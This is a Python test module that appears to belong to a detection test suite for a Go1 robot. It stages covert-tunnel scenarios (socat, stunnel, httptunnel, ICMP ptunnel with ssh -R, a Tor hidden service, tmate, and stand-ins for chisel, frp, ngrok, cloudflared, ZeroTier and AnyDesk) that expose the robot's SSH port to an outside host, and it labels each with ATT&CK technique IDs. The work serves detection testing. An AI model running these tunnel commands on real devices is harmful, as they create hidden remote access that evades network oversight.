"""Group 1: well-known programs that carry a connection within something else."""

from pathlib import Path

from tests.robots.attacks.acting import (
    door_to,
    linger,
    logs_in_and_works,
    on_internet,
    outside_sshd,
    put,
    self_signed,
    ssh_from_pi,
    start,
)
from tests.robots.attacks.draw import Draw
from tests.robots.attacks.networks import PLANTED
from tests.robots.attacks.scene import Act, Scene, Story
from tests.robots.go1 import Go1
from tests.robots.go1.addresses import OPERATOR, PI_PPP


def _socat(robot: Go1, draw: Draw) -> None:
    address, port, door = on_internet(robot, draw.address("outside")), draw.port("outside"), draw.high_port("door")
    listen = "TCP-LISTEN:{},bind={},reuseaddr"
    robot.internet.popen(["socat", listen.format(port, address), listen.format(door, address)])
    robot.internet.wait_for(port)
    start(robot, ["socat", f"TCP:{address}:{port}", "TCP:127.0.0.1:22"])
    robot.internet.wait_for(door)
    logs_in_and_works(robot, draw, (address, door))


def _stunnel(robot: Go1, draw: Draw) -> None:
    """The robot's stunnel takes calls from the internet; the caller has a stunnel too."""
    port, door = draw.port("door"), draw.high_port("desk")
    put(robot, "/etc/stunnel/pair.pem", Path(self_signed(robot)).read_bytes(), 0o600)
    name = draw.name("section")
    ends = f"accept = {PI_PPP}:{port}\nconnect = 127.0.0.1:22\ncert = /etc/stunnel/pair.pem\n"
    put(robot, f"/etc/stunnel/{name}.conf", f"foreground = yes\npid =\n[{name}]\n{ends}")
    start(robot, ["stunnel", f"/etc/stunnel/{name}.conf"])
    robot.pi.wait_for(port)
    config = robot.log.parent / "outside" / "stunnel.conf"
    config.write_text(
        f"foreground = yes\npid =\n[x]\nclient = yes\naccept = {OPERATOR}:{door}\nconnect = {PI_PPP}:{port}\n"
    )
    robot.internet.popen(["stunnel", str(config)])
    robot.internet.wait_for(door)
    logs_in_and_works(robot, draw, (OPERATOR, door))


def _httptunnel(robot: Go1, draw: Draw) -> None:
    port, door = draw.port("door"), draw.high_port("desk")
    start(robot, ["hts", "-w", "-F", "127.0.0.1:22", str(port)])
    robot.pi.wait_for(port)
    robot.internet.popen(["htc", "-w", "-F", str(door), f"{PI_PPP}:{port}"])
    robot.internet.wait_for(door)
    logs_in_and_works(robot, draw, ("127.0.0.1", door))


def _ptunnel(robot: Go1, draw: Draw) -> None:
    """ssh -R within echoes: nothing but pings leaves the robot."""
    address, sshd = on_internet(robot, draw.address("outside")), draw.high_port("sshd")
    local, door = draw.high_port("local"), draw.high_port("door")
    outside_sshd(robot, address, sshd)
    robot.internet.popen(["ptunnel"])
    start(robot, ["ptunnel", "-p", address, "-lp", str(local), "-da", address, "-dp", str(sshd)])
    robot.pi.wait_for(local)
    forward = ["-N", "-R", f"{address}:{door}:127.0.0.1:22", "-p", str(local), "root@127.0.0.1"]
    start(robot, ssh_from_pi(robot, draw, *forward))
    robot.internet.wait_for(door)
    logs_in_and_works(robot, draw, (address, door))


def _tor(robot: Go1, draw: Draw) -> None:
    put(robot, "/etc/tor/torrc", f"HiddenServiceDir /run/{draw.name('service')}\nHiddenServicePort 22 127.0.0.1:22\n")
    data = f"/run/{draw.name('tor')}"
    start(robot, ["tor", "-f", "/etc/tor/torrc", "--SocksPort", str(draw.high_port("socks")), "--DataDirectory", data])
    linger(6)


def _tmate(robot: Go1, draw: Draw) -> None:
    address, port = on_internet(robot, draw.address("outside")), draw.high_port("outside")
    outside_sshd(robot, address, port)
    settings = f"set -g tmate-server-host {address}\nset -g tmate-server-port {port}\n"
    put(robot, "/home/pi/.tmate.conf", settings)
    home = {"HOME": "/home/pi", "TERM": "xterm", "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"}
    start(robot, ["tmate", "-S", f"/run/{draw.name('tmate')}", "-F", "-f", "/home/pi/.tmate.conf"], env=home)
    linger(6)


def _named(program: str, *shown: str, login: bool = False) -> Act:
    """A tool that is in no package: our relay under its name, with its arguments."""

    def act(robot: Go1, draw: Draw) -> None:
        arguments = [draw.filled(word) for word in shown]
        path = f"/usr/local/{draw.name('folder')}/{program}"
        with door_to(robot, draw, ("127.0.0.1", 22), shown=arguments, path=path) as door:
            if login:
                logs_in_and_works(robot, draw, door)
            else:
                linger(5)

    return act


def _through(*names: str, origin: tuple[str, ...] = ("{address[outside]}", "ssh", "pi")) -> Story:
    return Story("remote-control", "high", ("ssh",), origin, ("remote control", "ssh", *names), ("T1572", "T1021.004"))


def _installed(name: str, technique: str = "T1572") -> Story:
    return Story("tunnel", "medium", (), ("{address[outside]}",), (name,), (technique,))


_CALLED = (OPERATOR, "ssh", "pi")
SCENES = (
    Scene("socat-login", 1, "socat joins a line to the internet with sshd; somebody logs in", _socat,
          _through("socat")),
    Scene("stunnel-login", 1, "stunnel takes calls from the internet for sshd", _stunnel,
          _through("stunnel", origin=_CALLED)),
    Scene("httptunnel-login", 1, "httptunnel takes calls from the internet for sshd", _httptunnel,
          _through("httptunnel", origin=_CALLED)),
    Scene("ptunnel-login", 1, "ssh -R within pings; somebody logs in through it", _ptunnel, _through("ptunnel")),
    Scene("tor-service", 1, "Tor offers the robot's sshd as a hidden service; it reaches nobody here", _tor,
          Story("tunnel", "medium", (), (), ("Tor",), ("T1090.003",))),
    Scene("tmate-idle", 1, "tmate offers a terminal to whoever has a link; its server here answers as a plain sshd",
          _tmate,
          _installed("tmate", "T1219")),
    Scene("frp-login", 1, "frp's client (a stand-in under its name); somebody logs in through it",
          _named("frpc", "-c", "/etc/frp/frpc.toml", login=True), _through("frp")),
    Scene("chisel-login", 1, "chisel's client (a stand-in under its name); somebody logs in through it",
          _named("chisel", "client", "{address[outside]}:{port[outside]}", "R:2222:localhost:22", login=True),
          _through("chisel")),
    Scene("ngrok-idle", 1, "ngrok (a stand-in under its name) opens port 22; nobody comes",
          _named("ngrok", "tcp", "22"),
          _installed("ngrok")),
    Scene("cloudflared-idle", 1,
          "cloudflared (a stand-in under its name) with its secret in the arguments; nobody comes",
          _named("cloudflared", "tunnel", "run", "--token", PLANTED), _installed("cloudflared")),
    Scene("zerotier-idle", 1, "ZeroTier (a stand-in under its name) runs as a daemon; nobody comes",
          _named("zerotier-one", "-d"), _installed("ZeroTier")),
    Scene("anydesk-idle", 1, "AnyDesk (a stand-in under its name) waits for a viewer; nobody comes", _named("anydesk"),
          _installed("AnyDesk", "T1219")),
)  # fmt: skip
